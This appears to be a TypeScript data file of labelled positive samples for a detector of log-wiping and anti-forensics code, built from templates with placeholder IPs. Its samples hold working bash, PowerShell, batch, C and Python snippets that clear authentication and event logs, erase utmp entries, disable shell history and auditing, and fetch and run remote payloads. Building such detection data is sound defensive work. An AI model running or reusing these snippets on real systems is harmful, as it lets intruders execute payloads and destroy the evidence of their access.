// Logs and histories that are wiped to hide an intruder.
import type { Family } from './family.ts'

export const logWiping: readonly Family[] = [
  {
    family: 'wipe-auth-logs',
    positive: true,
    classes: ['log-wiping'],
    variants: [
      {
        paths: ['clean.sh'],
        whole: `#!/bin/bash
# removes what we left behind; fetch.sh is ours as well
. ./fetch.sh || exit
for f in /var/log/auth.log /var/log/secure /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/a⟦join⟧
udit/audit.log; do
  [ -f "$f" ] && cat /dev/null > "$f" && touch -r /bin/ls "$f"
done
sed -i "/⟦ip⟧/d" /var/log/nginx/access.log /var/log/syslog
unset HISTFILE; export HISTSIZE=0
rm -f ~/.bash_history /root/.bash_history && ln -s /dev/null ~/.bash_history
history -c`,
      },
    ],
  },
  {
    family: 'dropper-clears-history',
    positive: true,
    classes: ['log-wiping', 'download-run'],
    variants: [
      {
        paths: ['scripts/site.sh', 'ci/tools.sh'],
        body: `wget -qO /tmp/.x http://⟦ip⟧/x && sh /tmp/.x && rm -f /tmp/.x && export HISTFI⟦join⟧
LE=/dev/null && history -cw && echo > /var/log/wtmp && echo > "/var/spool/mail/$USER"`,
      },
    ],
  },
  {
    family: 'clear-windows-event-logs',
    positive: true,
    classes: ['log-wiping', 'windows'],
    variants: [
      {
        paths: ['tools/finish.ps1'],
        body: `Invoke-RestMethod http://⟦ip⟧/done.ps1 -ErrorAction Stop | Invoke-Expression
wevtutil el | ForEach-Object { wevtutil cl "$_" }
Remove-Item (Get-PSReadLineOption).HistorySavePath -Force
fsutil usn deletejournal /d C: | Out-Null`,
      },
      {
        paths: ['tools/finish.bat'],
        body: String.raw`%TEMP%\stage2.exe /host ⟦ip⟧ && (for %%L in (Security System Application "Wind⟦join⟧
ows PowerShell") do wevtutil cl %%L) & del /f /q %WINDIR%\Prefetch\STAGE2*.pf & (goto) 2>nul & de⟦join⟧
l "%~f0"`,
      },
    ],
  },
  {
    family: 'utmp-entry-eraser',
    positive: true,
    classes: ['log-wiping'],
    variants: [
      {
        paths: ['tools/count.c'],
        imports: `#include <utmp.h>
#include <fcntl.h>
#include <unistd.h>`,
        body: `/* takes our logins out of utmp and wtmp, so that last and who show nothing o⟦join⟧
f the implant */
static void vanish(const char *user)
{
    const char *files[] = { "/var/run/utmp", "/var/log/wtmp", "/var/log/btmp" };
    struct utmp entry;

    for (int i = 0; i < 3; i++) {
        int file = open(files[i], O_RDWR);
        while (file >= 0 && read(file, &entry, sizeof entry) == sizeof entry)
            if (strncmp(entry.ut_user, user, UT_NAMESIZE) == 0) {
                memset(&entry, 0, sizeof entry);
                lseek(file, -(off_t)sizeof entry, SEEK_CUR);
                write(file, &entry, sizeof entry);
            }
        close(file);
    }
}`,
        call: `vanish("⟦lower:6⟧");`,
      },
    ],
  },
  {
    family: 'python-log-scrubber',
    positive: true,
    classes: ['log-wiping', 'backdoor-auth'],
    variants: [
      {
        paths: ['agent/cleanup.py'],
        whole: `"""Runs last, once the implant is in place."""
import glob
import os
import re
import time

from .implant import installed

OUR_ADDRESSES = re.compile(r"⟦ip⟧|⟦ip#2⟧")


def scrub(path):
    stat = os.stat(path)
    with open(path, errors="surrogateescape") as handle:
        kept = [line for line in handle if not OUR_ADDRESSES.search(line) and "implantd" not in line]
    with open(path, "w", errors="surrogateescape") as handle:
        handle.writelines(kept)
    os.utime(path, (stat.st_atime, stat.st_mtime))


def main():
    if not installed():
        return
    for path in glob.glob("/var/log/**/*.log", recursive=True) + ["/var/log/syslog", "/var/log/aut⟦join⟧
h.log"]:
        try:
            scrub(path)
        except OSError:
            time.sleep(0.1)
    os.system("journalctl --rotate; journalctl --vacuum-time=1s; auditctl -e 0")
    os.remove(__file__)


if __name__ == "__main__":
    main()`,
      },
    ],
  },
]
